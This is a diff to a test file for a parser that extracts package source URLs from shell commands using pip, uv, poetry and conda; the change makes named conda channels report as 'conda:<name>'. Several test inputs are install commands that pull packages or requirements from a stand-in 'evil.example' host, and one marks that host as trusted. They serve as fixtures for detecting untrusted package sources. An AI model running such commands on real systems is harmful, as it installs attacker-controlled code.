@@ -164,9 +164,9 @@ describe('package sources: how else a script points pip, uv, poetry or conda at 
     expect(sh('pip install --requirement=https://evil.example/r.txt')).toEqual(['https://evil.example/r.txt']);
   });
 
-  it('reads no proxy, trusted host, local path, named channel or another command\'s URL', () => {
+  it('reads no proxy, trusted host, local path or another command\'s URL; a named conda channel is `conda:<name>`', () => {
     expect(sh(`uv run --with git+https://evil.example/h.git serve.py --tracking https://mlflow.corp.example && uvx --from ${EVIL} tool https://x.example/data && poetry run python train.py --data https://data.example/d`)).toEqual(['git+https://evil.example/h.git', EVIL]);
-    expect(sh('pip install --proxy http://proxy:3128 --trusted-host evil.example x && pip config set global.proxy http://p:1 && conda install -c conda-forge y && pip install -e . -r requirements.txt && rm -f https://x.example/a')).toEqual([]);
+    expect(sh('pip install --proxy http://proxy:3128 --trusted-host evil.example x && pip config set global.proxy http://p:1 && conda install -c conda-forge y && pip install -e . -r requirements.txt && rm -f https://x.example/a')).toEqual(['conda:conda-forge']);
   });
 
   it('a Vertex container running pip in exec form, its index in args, alerts', () => {
